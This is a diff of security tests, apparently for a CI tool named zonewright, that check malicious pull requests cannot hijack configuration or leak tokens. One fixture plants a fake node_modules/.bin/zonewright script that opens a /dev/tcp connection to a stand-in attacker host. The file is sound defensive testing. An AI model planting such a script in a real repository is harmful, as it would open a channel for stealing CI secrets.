@@ -49,10 +49,11 @@ describeWithTools(['git', 'bash', 'curl', 'unzip', 'zip'], 'a pull request that 
     return repository.open(`attack-${branches}`)
   }
 
-  test.each<[string, (folder: string, attacker: Attacker) => void]>([
-    ['changes the config', (folder, attacker) => writeFileSync(join(folder, 'zonewright.yaml'), evilConfig(attacker))],
+  test.each<[string, 0 | 1, (folder: string, attacker: Attacker) => void]>([
+    ['changes the config', 0, (folder, attacker) => writeFileSync(join(folder, 'zonewright.yaml'), evilConfig(attacker))],
     [
       'replaces the config by a link to its own file',
+      1,
       (folder, attacker) => {
         writeFileSync(join(folder, 'evil.yaml'), evilConfig(attacker))
         rmSync(join(folder, 'zonewright.yaml'))
@@ -61,6 +62,7 @@ describeWithTools(['git', 'bash', 'curl', 'unzip', 'zip'], 'a pull request that 
     ],
     [
       'replaces the config by a folder',
+      1,
       (folder, attacker) => {
         rmSync(join(folder, 'zonewright.yaml'))
         mkdirSync(join(folder, 'zonewright.yaml'))
@@ -69,6 +71,7 @@ describeWithTools(['git', 'bash', 'curl', 'unzip', 'zip'], 'a pull request that 
     ],
     [
       'adds a program, packages and npm settings',
+      0,
       (folder, attacker) => {
         mkdirSync(join(folder, 'node_modules/.bin'), { recursive: true })
         writeFileSync(join(folder, 'node_modules/.bin/zonewright'), `#!/bin/sh\nexec 3<>/dev/tcp/${attacker.host.replace(':', '/')}\n`)
@@ -78,16 +81,17 @@ describeWithTools(['git', 'bash', 'curl', 'unzip', 'zip'], 'a pull request that 
         writeFileSync(join(folder, 'zonewright.yaml'), evilConfig(attacker))
       },
     ],
-  ])('and %s is planned with the config of the base branch', async (_, change) => {
+  ])('and %s is planned with the providers of the base branch, if it has a config', async (_, status, change) => {
     const number = open((folder) => change(folder, attacker))
     const before = repository.scene.proxy.requests.length
     await repository.check(number)
     expect(repository.scene.proxy.requests).toHaveLength(before)
-    expect(await repository.plan(number)).toMatchObject({ status: 0, summary: expect.stringContaining('192.0.2.5') })
-    expect(commentsOn(repository, number)).toEqual([expect.stringContaining('192.0.2.5')])
+    const shown = expect.stringMatching(status === 0 ? /<code>providers<\/code>.*of the config takes? effect after.*2\.5/s : /has errors/)
+    expect(await repository.plan(number)).toMatchObject({ status, summary: shown })
+    expect(commentsOn(repository, number)).toEqual([shown])
     expect(attacker.received()).toBe('')
     const requests = repository.scene.proxy.requests.slice(before)
-    expect(new Set(requests.map(({ headers }) => headers.authorization))).toEqual(new Set([`Bearer ${READ}`]))
+    expect(new Set(requests.map(({ headers }) => headers.authorization))).toEqual(new Set(status === 0 ? [`Bearer ${READ}`] : []))
   })
 
   test('by tags with the name of the branch does not replace it', async () => {
@@ -114,6 +118,7 @@ describeWithTools(['git', 'bash', 'curl', 'unzip', 'zip'], 'a pull request that 
     ['made by the workflow of another base branch', /not on main/, (_, run) => Object.assign(run, { headSha: 'b'.repeat(40) })],
     ['of a run that failed', /ended with failure/, (_, run) => Object.assign(run, { conclusion: 'failure' })],
     ['of a run before one that was refused', /ended with failure/, (_, run) => later(run, { conclusion: 'failure' })],
+    ['of a run before one that was cancelled', /ended with cancelled/, (_, run) => later(run, { conclusion: 'cancelled' })],
     ['of a run before one that kept none', /has 0 artifacts/, (_, run) => later(run, {})],
     ['of a run before one that has not ended', /ended with none/, (_, run) => later(run, { conclusion: null })],
     ['of a run before one that ran again', /ended with failure/, (_, run) => again(run, { id: run.id - 1, conclusion: 'failure' })],
